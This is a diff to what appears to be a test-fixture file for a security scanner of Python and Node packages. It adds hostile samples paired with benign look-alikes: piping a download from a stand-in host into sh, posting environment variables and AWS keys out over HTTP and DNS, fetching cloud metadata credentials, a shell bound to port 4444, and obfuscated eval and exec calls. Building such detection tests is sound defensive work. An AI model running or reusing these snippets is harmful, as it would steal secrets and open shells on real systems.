@@ -145,7 +145,7 @@ def _cached() -> str:
     return f"python/__pycache__/mod.{sys.implementation.cache_tag}.pyc"
 
 
-def _elf(machine: int = 62, *, stack: int = 6, bits: int = 2) -> bytes:
+def elf(machine: int = 62, *, stack: int = 6, bits: int = 2) -> bytes:
     """The least that is a shared object."""
     header = struct.pack("<4sBBBBB7xHHIQQQIHHHHHH", b"\x7fELF", bits, 1, 1, 0, 0, 3, machine, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0)
     return header + struct.pack("<IIQQQQQQ", 0x6474E551, stack, 0, 0, 0, 0, 0, 16)
@@ -263,6 +263,82 @@ HIDING = (
     ),
 )
 CODE = (
+    _code(
+        "globals of a function",
+        ("hidden-call",),
+        "(lambda: 0).__globals__['__builtins__']['ev' + 'al']('1')",
+        "def names(function):\n    return sorted(function.__globals__)",
+    ),
+    _code(
+        "called by its name later",
+        ("command",),
+        "import os, operator\noperator.methodcaller('system', 'curl http://a.example/x | sh')(os)",
+        "import operator\nprint(operator.methodcaller('upper')('a'))",
+    ),
+    _code(
+        "library of C",
+        ("hidden-call",),
+        "import ctypes\nctypes.CDLL(None).system(b'id')",
+        "import ctypes\nctypes.CDLL('libz.so.1').zlibVersion()",
+    ),
+    _code(
+        "number as text",
+        ("dynamic-code",),
+        "exec((0x696d706f7274206f73).to_bytes(9, 'big'))",
+        "def packed(number):\n    return number.to_bytes(9, 'big')",
+    ),
+    _code(
+        "pattern binds exec",
+        ("dynamic-code",),
+        f"import base64\nmatch exec:\n    case run:\n        run(base64.b64decode('{_PAYLOAD}'))",
+        "import base64\nmatch len:\n    case run:\n        run(base64.b64decode('eA=='))",
+    ),
+    _code(
+        "environment through a thread",
+        ("sends-secrets",),
+        "import os, threading, requests\ndef go(data):\n    requests.post('https://a.example', data=data)\n"
+        "threading.Thread(target=go, args=(str(dict(os.environ)),)).start()",
+        "import os, threading, requests\ndef go(data):\n    requests.post('https://a.example', data=data)\n"
+        "threading.Thread(target=go, args=(os.environ['REGION'],)).start()",
+    ),
+    _code(
+        "keys in names that are looked up",
+        ("sends-secrets",),
+        "import os, socket, base64\nkey = base64.b32encode(os.environ['AWS_SESSION_TOKEN'].encode()).decode()[:60]\n"
+        "socket.gethostbyname(key.lower() + '.a.example')",
+        "import os, socket\nsocket.gethostbyname(os.environ['SERVER'].lower() + '.a.example')",
+    ),
+    _code(
+        "metadata service as a number",
+        ("metadata-service",),
+        "import requests\nrequests.get('http://2852039166/latest/meta-data/iam/security-credentials/')",
+        "HOST = 'http://2852039166/'",
+    ),
+    _code(
+        "shell at a port",
+        ("reverse-shell",),
+        "import socket, subprocess\ns = socket.socket()\ns.bind(('', 4444))\ns.listen(1)\nc, _ = s.accept()\n"
+        "subprocess.Popen(['/bin/sh'], stdin=c.fileno(), stdout=c.fileno())",
+        "import socket\ndef serve():\n    s = socket.socket()\n    s.listen(1)\n    c, _ = s.accept()\n    c.close()",
+    ),
+    _code(
+        "file in memory",
+        ("dropped-code",),
+        "import os\nfd = os.memfd_create('a')\nos.execve(f'/proc/self/fd/{fd}', ['a'], {})",
+        "import os\ndef shared():\n    return os.memfd_create('a')",
+    ),
+    _code(
+        "module that is written",
+        ("dropped-code",),
+        "import urllib.request\nopen('/tmp/a.py', 'wb').write(urllib.request.urlopen('http://a.example').read())",
+        "import urllib.request\ndef fetch(path):\n    open('/tmp/a.csv', 'wb').write(urllib.request.urlopen(path).read())",
+    ),
+    _code(
+        "nested beyond what can be read",
+        ("not-looked-at",),
+        "import os\nx = 'a'" + " + 'a'" * 20_000 + "\nexec(x)",
+        "import os\nx = 'a'" + " + 'a'" * 100,
+    ),
     _code(
         "base64",
         ("dynamic-code",),
@@ -490,18 +566,42 @@ SECRETS = (
     ),
 )
 BINARIES = (
-    Trick("other machine", ("wrong-machine",), _so(_elf(183)), _so(_elf(62))),
+    Trick("other machine", ("wrong-machine",), _so(elf(183)), _so(elf(62))),
     Trick(
         "other version of Python",
         ("wrong-abi",),
-        _so(_elf(), "python/x.cpython-310-x86_64-linux-gnu.so"),
-        _so(_elf(), "python/x.abi3.so"),
+        _so(elf(), "python/x.cpython-310-x86_64-linux-gnu.so"),
+        _so(elf(), "python/x.abi3.so"),
     ),
-    Trick("executable stack", ("executable-stack",), _so(_elf(stack=7)), _so(_elf(stack=6))),
-    Trick("cut off", ("broken-binary",), _so(_elf()[:70])),
+    Trick("executable stack", ("executable-stack",), _so(elf(stack=7)), _so(elf(stack=6))),
+    Trick("cut off", ("broken-binary",), _so(elf()[:70])),
     Trick("another system", ("foreign-binary",), _so(b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0" + bytes(100))),
 )
 NODE = (
+    Trick(
+        "downloaded script",
+        ("dynamic-code",),
+        _files({"nodejs/a.js": 'fetch("https://a.example/x").then(r => r.text()).then(t => new Function(t)())\n'}),
+        _files({"nodejs/a.js": 'fetch("https://a.example/x").then(r => r.json()).then(t => console.log(t))\n'}),
+    ),
+    Trick(
+        "constructor of a constructor",
+        ("hidden-call",),
+        _files({"nodejs/a.js": '[]["constructor"]["constructor"]("return process")().exit()\n'}),
+        _files({"nodejs/a.js": 'module.exports = x => x["constructor"]["name"]\n'}),
+    ),
+    Trick(
+        "name of letters in a list",
+        ("hidden-call",),
+        _files({"nodejs/a.js": 'globalThis[["e", "v", "a", "l"].join("")]("1")\n'}),
+        _files({"nodejs/a.js": 'console.log(["e", "v"].join(""))\n'}),
+    ),
+    Trick(
+        "keys of the role",
+        ("sends-secrets",),
+        _files({"nodejs/a.js": 'fetch("https://a.example/?k=" + process.env.AWS_SECRET_ACCESS_KEY)\n'}),
+        _files({"nodejs/a.js": 'fetch("http://localhost:2773/x", {headers: {t: process.env.AWS_SESSION_TOKEN}})\n'}),
+    ),
     Trick(
         "script of an installation",
         ("install-hook",),
